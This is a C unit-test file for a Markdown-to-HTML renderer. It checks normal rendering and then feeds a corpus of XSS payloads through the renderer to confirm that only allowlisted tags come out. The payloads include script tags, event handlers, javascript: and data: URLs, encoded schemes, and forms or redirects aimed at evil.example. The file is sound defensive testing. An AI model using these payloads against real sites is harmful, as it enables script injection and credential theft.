#include "check.h"

#include "html/html.h"

#include <string.h>

static struct arena arena;

static str markup(str text)
{
    return html_markdown(&arena, text).text;
}

static void what_people_write_becomes_markup(void **state)
{
    static const struct {
        str text, want;
    } rows[] = {
        {S(""), S("")},
        {S("Ran the *customer* **demo**."),
         S("<p>Ran the <em>customer</em> <strong>demo</strong>.</p>\n")},
        {S("# One\n\n###### Six"), S("<h3>One</h3>\n<h6>Six</h6>\n")},
        {S("- a\n- b"), S("<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n")},
        {S("3. a\n\n4. b"),
         S("<ol start=\"3\">\n<li><p>a</p>\n</li>\n<li><p>b</p>\n</li>\n</ol>\n")},
        {S("> said\n\n---"), S("<blockquote>\n<p>said</p>\n</blockquote>\n<hr>\n")},
        {S("`a<b`\n\n    <c>\n"),
         S("<p><code>a&lt;b</code></p>\n<pre><code>&lt;c&gt;\n</code></pre>\n")},
        {S("a  \nb\nc"), S("<p>a<br>\nb\nc</p>\n")},
        {S("[x](https://e.org/?a&b 'title')"),
         S("<p><a href=\"https://e.org/?a&amp;b\" rel=\"noopener noreferrer "
           "nofollow\">x</a></p>\n")},
        {S("![shot](https://e.org/x.png)"), S("<p><a href=\"https://e.org/x.png\" rel=\"noopener "
                                              "noreferrer nofollow\">shot</a></p>\n")},
        {S("[![shot](https://e.org/x.png)](https://e.org)"),
         S("<p><a href=\"https://e.org\" rel=\"noopener noreferrer nofollow\">shot</a></p>\n")},
        {S("<b>bold</b>"), S("<p>&lt;b&gt;bold&lt;/b&gt;</p>\n")},
        {S("<div>\nblock\n</div>"), S("<p>&lt;div&gt;\nblock\n&lt;/div&gt;</p>\n")},
        {S("[a]: https://e.org\n\n[a]"),
         S("<p><a href=\"https://e.org\" rel=\"noopener noreferrer nofollow\">a</a></p>\n")},
    };
    for (size_t i = 0; i < LENGTH(rows); i++)
        check_str(markup(rows[i].text), rows[i].want);
}

/* Whatever comes in: every '<' in what goes out opens one of these, exactly so. */
static const char *const allowed[] = {
    "p>",
    "em>",
    "strong>",
    "h3>",
    "h4>",
    "h5>",
    "h6>",
    "ul>",
    "ol>",
    "li>",
    "blockquote>",
    "hr>",
    "br>",
    "code>",
    "pre>",
    "a>",
    "ol start=\"",
    "a href=\"https://",
    "a href=\"http://",
    "a href=\"mailto:",
};

static bool is_allowed(str rest)
{
    str name = str_starts(rest, S("/")) ? str_from_at(rest, 1) : rest;
    for (size_t i = 0; i < LENGTH(allowed); i++)
        if (str_starts(name, str_from(allowed[i])))
            return true;
    return false;
}

static void check_clean(str text)
{
    str out = markup(text);
    for (size_t i = 0; i < out.length; i++)
        if (out.at[i] == '<' && !is_allowed(str_from_at(out, i + 1)))
            fail_msg("%.*s\n became %.*s", STR(text), STR(out));
}

static void scripts_in_disguise_come_out_as_words(void **state)
{
    static const char *const corpus[] = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
        "[x](\\javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/settings?delete=1)",
        "[x](https://e.org/\"onmouseover=\"alert(1))",
        "[x](https://e.org/'onmouseover='alert(1))",
        "[x](<https://e.org/\" onmouseover=\"alert(1)>)",
        "![x](javascript:alert(1))",
        "![x\"onerror=\"alert(1)](https://e.org/x.png)",
        "![](https://e.org/x.png \"a\\\" onload=\\\"alert(1)\")",
        "<javascript:alert(1)>",
        "<https://e.org/\"><script>alert(1)</script>>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a\nhref='javascript:alert(1)'>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=password></form>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<style>@import 'https://evil.example'</style>",
        "<link rel=stylesheet href=https://evil.example>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php alert(1) ?>",
        "`</code><script>alert(1)</script>`",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "    </pre><script>alert(1)</script>",
        "# <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "- <script>alert(1)</script>",
        "[a]: javascript:alert(1)\n\n[a]",
        "[a](https://e.org \"</a><script>alert(1)</script>\")",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\xef\xbc\x9cscript\xef\xbc\x9e",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    };
    for (size_t i = 0; i < LENGTH(corpus); i++) {
        check_clean(str_from(corpus[i]));
        check_false(str_has(markup(str_from(corpus[i])), S("href=\"javascript")));
    }
}

static str repeat(const char *piece, size_t times)
{
    struct buf b;
    buf_init(&b, &arena, 1 << 20);
    for (size_t i = 0; i < times; i++)
        buf_add(&b, str_from(piece));
    return buf_str(&b);
}

static void deep_nests_are_shown_plain_and_whole(void **state)
{
    check_true(str_starts(markup(repeat("> ", 20)), S("<blockquote>")));
    str deep = markup(str_format(&arena, "%.*sx", STR(repeat("> ", 200))));
    check_true(str_starts(deep, S("<p>&gt; &gt; ")));
    check_clean(repeat("- ", 5000));
    check_clean(repeat("*a **b ", 4000));
    check_clean(repeat("[", 20000));
    check_clean(repeat("![](", 10000));
    check_clean(repeat("`", 30000));
    check_clean(repeat("<!--", 10000));
}

static void too_long_texts_are_shown_plain_and_whole(void **state)
{
    str at_most = repeat("*a* ", MARKDOWN_MOST / 4);
    check_true(str_starts(markup(at_most), S("<p><em>a</em>")));
    str over = str_format(&arena, "%.*s!", STR(at_most));
    check_true(str_starts(markup(over), S("<p>*a* *a*")));
}

static void repeated_references_cannot_swell_the_page(void **state)
{
    str text = str_format(&arena, "[a]: https://e.org/%.*s\n\n%.*s", STR(repeat("x", 10000)),
                          STR(repeat("[a]", 10000)));
    check_true(markup(text).length <= 16 * text.length + 1024);
    check_clean(text);
}

static void plain_text_keeps_its_lines_and_paragraphs(void **state)
{
    check_str(html_plain(&arena, S("a<\r\nb\n\n\nc\n")).text, S("<p>a&lt;<br>\nb</p>\n<p>c</p>\n"));
    check_str(html_plain(&arena, S("")).text, S(""));
    check_str(html_plain(&arena, S("\n \n")).text, S(""));
}

int main(void)
{
    arena_init(&arena);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_people_write_becomes_markup),
        cmocka_unit_test(scripts_in_disguise_come_out_as_words),
        cmocka_unit_test(deep_nests_are_shown_plain_and_whole),
        cmocka_unit_test(too_long_texts_are_shown_plain_and_whole),
        cmocka_unit_test(repeated_references_cannot_swell_the_page),
        cmocka_unit_test(plain_text_keeps_its_lines_and_paragraphs),
    };
    int failed = cmocka_run_group_tests(tests, NULL, NULL);
    arena_close(&arena);
    return failed;
}
